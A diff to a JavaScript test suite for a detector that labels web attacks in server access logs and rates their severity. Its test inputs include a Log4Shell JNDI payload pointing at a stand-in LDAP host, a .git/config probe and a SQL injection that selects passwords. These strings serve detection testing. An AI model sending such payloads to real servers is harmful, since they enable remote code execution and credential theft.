@@ -18,19 +18,20 @@ describe("web attacks in access logs", () => {
     ["GET /.git/config", "sensitive_file_probe"],
     ["GET /?x=$%7Bjndi:ldap://203.0.113.9/a%7D", "log4shell"],
   ])("%s is a %s", (request, attackType) => {
-    expect(access(request)).toMatchObject({
-      event_type: "web_attack",
-      attack_type: attackType,
-      source_ip: "203.0.113.50",
-      status_code: 404,
-      severity: "medium",
-    });
+    const e = access(request);
+    expect(e).toMatchObject({ event_type: "web_attack", attack_type: attackType, source_ip: "203.0.113.50" });
+    // Exploitation attempts rate higher than reconnaissance.
+    const probe = ["xss", "crlf_injection", "admin_probe", "sensitive_file_probe"].includes(attackType);
+    expect(e.severity).toBe(probe ? "medium" : "high");
   });
 
   it("names scanners by their user agent, and raises the severity of attacks the server answered", () => {
     expect(access("GET /", 200, "Mozilla/5.00 (Nikto/2.1.6)")).toMatchObject({
       attack_type: "scanner",
       severity: "high",
+    });
+    expect(access("GET /a?id=1%20UNION%20SELECT%20pwd%20FROM%20users", 200)).toMatchObject({
+      severity: "critical",
     });
   });
 
